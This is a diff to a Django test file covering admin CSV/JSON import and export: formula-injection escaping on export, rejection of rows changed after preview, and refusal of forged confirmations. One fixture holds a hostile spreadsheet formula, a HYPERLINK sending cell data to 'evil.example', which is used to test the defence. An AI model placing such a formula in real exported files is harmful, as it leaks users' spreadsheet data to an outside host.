@@ -17,6 +17,8 @@ from django.contrib.auth import get_user_model
 from django.contrib.auth.models import Permission
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.core.management import call_command
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 from pytest_django.asserts import assertContains, assertNotContains
 from reversion.models import Revision, Version
@@ -319,7 +321,7 @@ def test_a_row_that_fails_on_confirmation_undoes_the_whole_file(client, editor):
     assert done.url == admin_url(Event, "import")
     page = client.get(done.url)
     assertContains(page, "Nothing was imported")
-    assertContains(page, "Row 2: “second” is published")
+    assertContains(page, "Row 2: “second” has changed since the preview")
     assert footprint() == before
 
 
@@ -400,6 +402,21 @@ def test_a_row_that_would_change_a_published_record_is_rejected(client, editor):
     ]
     assertContains(response, "a publisher must unpublish it")
     assert footprint() == before
+
+
+def test_a_row_that_would_change_a_body_that_published_records_show_is_rejected(client, editor):
+    shown = make_body("Implementation Review Group", slug="irg")
+    make_event(bodies=[shown])
+    make_event(bodies=[make_body("Drafting group", slug="drafting")], publication_status=PublicationStatus.DRAFT)
+    content = "slug,name_en,kind\nirg,Renamed group,wco_body\ndrafting,Renamed drafting group,wco_body\n"
+
+    response = preview(client, Body, content, name="bodies.csv")
+
+    [invalid] = response.context["result"].invalid_rows
+    assert invalid.non_field_specific_errors == [
+        "“irg” is shown by published records: change it in the admin, where a publisher reviews it."
+    ]
+    assert Body.objects.get(slug="irg").name == "Implementation Review Group"
 
 
 def test_a_publisher_cannot_change_a_published_record_by_import_either(client, editor):
@@ -582,3 +599,162 @@ def test_exporting_needs_the_view_permission(client):
 
     assert client.get(admin_url(Event, "export")).status_code == 403
     assert export(client, Event, CSV_FORMAT, EventResource).status_code == 403
+
+
+# What a spreadsheet would run as a formula, and texts that only look like one.
+FORMULA_TITLE = '=HYPERLINK("https://evil.example/?"&B2,"open")'
+
+
+def a_catalogue_of_formulas():
+    """Records whose texts begin as formulas do, as an editor may legitimately write them."""
+    wco = make_body("=1+1 body", slug="wco", name_fr="@wco", short_name_en="-WCO", description_en="\tIndented")
+    make_instrument(
+        "+ plus sign guide",
+        slug="guide",
+        short_name_en="=SUM(A1:A9)",
+        issuing_body=wco,
+        description_en="\rA carriage return",
+        publication_status=PublicationStatus.DRAFT,
+    )
+    make_event(
+        FORMULA_TITLE,
+        slug="hostile",
+        bodies=[wco],
+        title_fr="'=quoted already",
+        city_en="-Vienna",
+        summary_en="@SUM(1)",
+        summary_fr="\tTab",
+        publication_status=PublicationStatus.DRAFT,
+    )
+
+
+@pytest.mark.parametrize("model", [Event, Instrument, Body])
+def test_no_cell_of_a_csv_export_starts_a_formula_and_the_file_imports_back_unchanged(client, editor, model):
+    a_catalogue_of_formulas()
+    [resource] = admin.site._registry[model].resource_classes
+    before = footprint()
+
+    exported = export(client, model, CSV_FORMAT, resource).content
+    cells = [cell for row in csv.reader(io.StringIO(exported.decode("utf-8-sig"))) for cell in row]
+
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    response = preview(client, model, exported, name="exported.csv")
+    assert totals(response) == {"skip": model.objects.count()}
+    confirm(client, response)
+    assert footprint() == before
+
+
+def test_a_formula_in_a_csv_export_is_quoted_and_read_back_as_it_was(client, editor):
+    a_catalogue_of_formulas()
+
+    exported = export(client, Event, CSV_FORMAT, EventResource).content.decode("utf-8-sig")
+    as_json = json.loads(export(client, Event, JSON_FORMAT, EventResource).content)
+
+    [row] = csv.DictReader(io.StringIO(exported))
+    assert (row["title_en"], row["title_fr"]) == (f"'{FORMULA_TITLE}", "''=quoted already")
+    assert (row["city_en"], row["summary_en"], row["summary_fr"]) == ("'-Vienna", "'@SUM(1)", "'\tTab")
+    [record] = as_json
+    assert (record["title_en"], record["title_fr"], record["summary_fr"]) == (
+        FORMULA_TITLE,
+        "'=quoted already",
+        "\tTab",
+    )
+
+
+def test_a_quote_before_a_formula_in_a_csv_file_is_not_imported(client, editor):
+    make_body(slug="irg")
+    rows = [event_row("a", title_en="'=1+1"), event_row("b", title_en="''@twice"), event_row("c", title_en="'quoted")]
+
+    import_file(client, Event, event_csv(*rows))
+
+    assert dict(Event.objects.values_list("slug", "title_en")) == {"a": "=1+1", "b": "'@twice", "c": "'quoted"}
+
+
+def test_a_json_file_is_imported_as_it_is_written(client, editor):
+    make_body(slug="irg")
+
+    import_file(client, Event, json.dumps([event_row("a", title_en="'=1+1")]), name="e.json", file_format=JSON_FORMAT)
+
+    assert Event.objects.get().title_en == "'=1+1"
+
+
+def changed_meanwhile(event, how):
+    """Change `event` as staff may between an import's preview and its confirmation."""
+    if how == "title edited":
+        # Even by a bulk update, which leaves the lock_version as it was.
+        Event.objects.filter(pk=event.pk).update(title_en="Edited meanwhile")
+    else:
+        event.publication_status = {"submitted": "in_review", "published": "published"}[how]
+        event.save()
+
+
+@pytest.mark.parametrize("how", ["title edited", "submitted", "published"])
+def test_a_record_changed_after_the_preview_is_not_overwritten(client, editor, how):
+    body = make_body(slug="irg")
+    make_event("Untouched", slug="untouched", bodies=[body], publication_status="draft")
+    draft = make_event("Draft", slug="draft", bodies=[body], publication_status="draft")
+    response = preview(client, Event, event_csv(event_row("new"), {**row_of(draft), "title_en": "Draft, corrected"}))
+    assert totals(response) == {"new": 1, "update": 1}
+    changed_meanwhile(draft, how)
+    before = footprint()
+    stored = Event.objects.filter(pk=draft.pk).values().get()
+
+    done = confirm(client, response)
+
+    assert done.status_code == 302
+    assert done.url == admin_url(Event, "import")
+    page = client.get(done.url)
+    assertContains(page, "Nothing was imported")
+    assertContains(page, "Row 2: “draft” has changed since the preview. Import the file again")
+    assert footprint() == before
+    assert Event.objects.filter(pk=draft.pk).values().get() == stored
+
+
+def test_a_record_created_or_deleted_after_the_preview_is_not_written_over(client, editor):
+    body = make_body(slug="irg")
+    gone = make_event("Gone", slug="gone", bodies=[body], publication_status="draft")
+    response = preview(client, Event, event_csv(event_row("created"), {**row_of(gone), "title_en": "Gone, corrected"}))
+    make_event("Created meanwhile", slug="created", bodies=[body], publication_status="draft")
+    gone.delete()
+    before = footprint()
+
+    page = client.get(confirm(client, response).url)
+
+    assertContains(page, "Row 1: “created” has changed since the preview.")
+    assertContains(page, "Row 2: “gone” has changed since the preview.")
+    assert footprint() == before
+    assert Event.objects.get(slug="created").title_en == "Created meanwhile"
+
+
+def test_changes_to_other_records_do_not_stop_an_import(client, editor):
+    body = make_body(slug="irg")
+    draft = make_event("Draft", slug="draft", bodies=[body], publication_status="draft")
+    other = make_event("Other", slug="other", bodies=[body], publication_status="draft")
+    response = preview(client, Event, event_csv({**row_of(draft), "title_en": "Draft, corrected"}))
+    other.title_en = "Other, edited"
+    other.save()
+
+    with CaptureQueriesContext(connection) as queries:
+        done = confirm(client, response)
+
+    assert done.url == admin_url(Event, "changelist")
+    assert Event.objects.get(slug="draft").title_en == "Draft, corrected"
+    if connection.features.has_select_for_update:
+        assert any(" FOR UPDATE" in query["sql"] for query in queries.captured_queries)
+
+
+def test_a_confirmation_without_the_state_its_preview_saw_is_refused(client, editor):
+    body = make_body(slug="irg")
+    draft = make_event("Draft", slug="draft", bodies=[body], publication_status="draft")
+    response = preview(client, Event, event_csv({**row_of(draft), "title_en": "Draft, corrected"}))
+    parser = _ConfirmFormParser()
+    parser.feed(response.content.decode())
+    before = footprint()
+
+    for forged in ({"previewed_states": "forged"}, {"previewed_states": ""}):
+        page = client.post(parser.action, {**parser.fields, **forged, "confirm": "Confirm import"})
+
+        assert page.status_code == 200
+        assertContains(page, "This preview can no longer be confirmed. Import the file again.")
+        assertNotContains(page, "Confirm import")
+    assert footprint() == before
